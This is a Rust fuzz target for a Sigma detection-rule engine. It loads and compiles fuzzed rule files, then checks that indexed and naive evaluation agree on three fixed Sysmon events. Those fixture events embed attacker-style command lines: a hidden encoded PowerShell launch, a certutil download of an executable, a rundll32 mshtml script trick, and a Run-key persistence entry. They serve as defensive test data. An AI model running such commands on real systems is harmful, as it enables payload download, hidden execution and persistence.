//! Fuzzes the Sigma rule path: a rule file (lossy UTF-8) → `load::load_str` →
//! `compile::compile` → `engine::Engine`, evaluated on a few fixed Sysmon events.
//!
//! Properties:
//! - loading reports problems as diagnostics naming the file; a YAML syntax error is the
//!   only diagnostic of its file, loads nothing, and is located (line and column ≥ 1);
//!   every diagnostic renders;
//! - `compile` returns one compiled rule or one diagnostic per loaded rule;
//! - on every event, the indexed `Engine::evaluate` (logsource candidates, Aho-Corasick
//!   prefilter over required literals) returns exactly what `Engine::evaluate_naive` (every
//!   admitted rule, no prefilter) returns, whatever the rules; so does evaluating the
//!   events a second time with the same, now warm, `Scratch`.
//!
//! Seed it with real rules (see `README.md`).

#![no_main]

use std::sync::Arc;

use libfuzzer_sys::fuzz_target;
use watchfloor_event::{Event, FieldTable, LogSource, Value};
use watchfloor_sigma::compile::compile;
use watchfloor_sigma::diagnostic::{Code, Diagnostic};
use watchfloor_sigma::engine::{Engine, Scratch};
use watchfloor_sigma::field_test::Placeholders;
use watchfloor_sigma::load::load_str;
use watchfloor_sigma::rule::RuleSet;

/// Largest rule file tried; nearly all SigmaHQ rules are far smaller (a few hash-list
/// rules reach 300 KiB).
const MAX_RULE_BYTES: usize = 64 << 10;

const SYSMON_PROCESS: LogSource =
    LogSource::new(Some("windows"), Some("process_creation"), Some("sysmon"));
const SYSMON_REGISTRY: LogSource =
    LogSource::new(Some("windows"), Some("registry_event"), Some("sysmon"));

/// The events every input is evaluated on, with their fields interned in `table`: two
/// Sysmon process creations (one with non-ASCII text, including the two characters whose
/// lowercase is ASCII, and a field whose path differs from its name) and one Sysmon
/// registry event, which rules reach through the `registry_*` guards.
///
/// Built per input on a fresh table, so field ids, and thus a crash, do not depend on the
/// inputs run before.
fn events(table: &FieldTable) -> Vec<Event> {
    let event = |logsource: LogSource, fields: &[(&str, Value<'_>)]| {
        let mut ev = Event::new();
        ev.logsource = logsource;
        for (name, value) in fields {
            let (name, path) = match name.split_once('@') {
                Some((name, path)) => (table.intern(name), table.intern(path)),
                None => (table.intern(name), table.intern(name)),
            };
            ev.push(name, path, *value);
        }
        ev
    };
    vec![
        event(
            SYSMON_PROCESS,
            &[
                ("EventID", Value::Int(1)),
                ("Image", Value::Str(r"C:\Windows\System32\cmd.exe")),
                (
                    "CommandLine",
                    Value::Str(
                        r#"cmd.exe /c whoami /all & powershell -nop -w hidden -enc SQBFAFgA & certutil -urlcache -f http://10.0.0.5/a.exe C:\Users\Public\a.exe"#,
                    ),
                ),
                ("ParentImage", Value::Str(r"C:\Windows\explorer.exe")),
                ("User", Value::Str(r"CORP\Administrator")),
                ("IntegrityLevel", Value::Str("High")),
                ("ProcessId", Value::Int(4242)),
            ],
        ),
        event(
            SYSMON_PROCESS,
            &[
                ("EventID", Value::Int(1)),
                (
                    "Image",
                    Value::Str(r"C:\Users\Ünïcode\AppData\Local\Temp\ÉVIL.EXE"),
                ),
                (
                    "CommandLine@Event.EventData.CommandLine",
                    Value::Str(
                        "RUNDLL32.EXE javascript:\"\\..\\mshtml,RunHTMLApplication\" İSTANBUL \u{212A}ELVIN ΣΊΣΥΦΟΣ",
                    ),
                ),
                ("OriginalFileName", Value::Str("RUNDLL32.EXE")),
                ("Elevated", Value::Bool(true)),
                ("Score", Value::Float(0.5)),
                ("Hashes", Value::Null),
            ],
        ),
        event(
            SYSMON_REGISTRY,
            &[
                ("EventID", Value::Int(13)),
                ("EventType", Value::Str("SetValue")),
                ("Image", Value::Str(r"C:\Windows\regedit.exe")),
                (
                    "TargetObject",
                    Value::Str(r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\evil"),
                ),
                ("Details", Value::Str(r"C:\ProgramData\evil.exe")),
            ],
        ),
    ]
}

fn check_diagnostic(file: &Arc<str>, d: &Diagnostic) {
    assert_eq!(&d.file, file, "diagnostic names another file: {d:?}");
    assert!(!d.message.is_empty(), "diagnostic without a message: {d:?}");
    // Rendering must not panic.
    let _ = d.to_string();
}

fuzz_target!(|data: &[u8]| {
    if data.len() > MAX_RULE_BYTES {
        return;
    }
    let text = String::from_utf8_lossy(data);
    let file: Arc<str> = Arc::from("fuzz.yml");
    let mut set = RuleSet::default();
    let mut diags = Vec::new();
    load_str(&file, &text, &mut set, &mut diags);
    for d in &diags {
        check_diagnostic(&file, d);
    }
    if let Some(yaml) = diags.iter().find(|d| d.code == Code::YamlSyntax) {
        assert!(
            yaml.line >= 1 && yaml.column >= 1,
            "YAML syntax error without a position: {yaml:?}"
        );
        assert_eq!(diags.len(), 1, "a YAML syntax error comes alone: {diags:?}");
        assert!(
            set.rules.is_empty() && set.filters.is_empty() && set.correlations.is_empty(),
            "a file with a YAML syntax error loaded documents"
        );
    }

    let table = FieldTable::new();
    let events = events(&table);
    let loaded = diags.len();
    let rules = compile(&set, &table, &Placeholders::new(), &mut diags);
    for d in &diags[loaded..] {
        check_diagnostic(&file, d);
    }
    assert_eq!(
        rules.len() + (diags.len() - loaded),
        set.rules.len(),
        "compile must give one rule or one diagnostic per loaded rule"
    );

    let engine = Engine::new(rules);
    let mut scratch = Scratch::default();
    let (mut fast, mut slow) = (Vec::new(), Vec::new());
    for round in 0..2 {
        for (i, ev) in events.iter().enumerate() {
            fast.clear();
            slow.clear();
            engine.evaluate(ev, &mut scratch, &mut fast);
            engine.evaluate_naive(ev, &mut slow);
            assert_eq!(
                fast, slow,
                "event {i} (round {round}): indexed engine and naive evaluation disagree"
            );
        }
    }
});
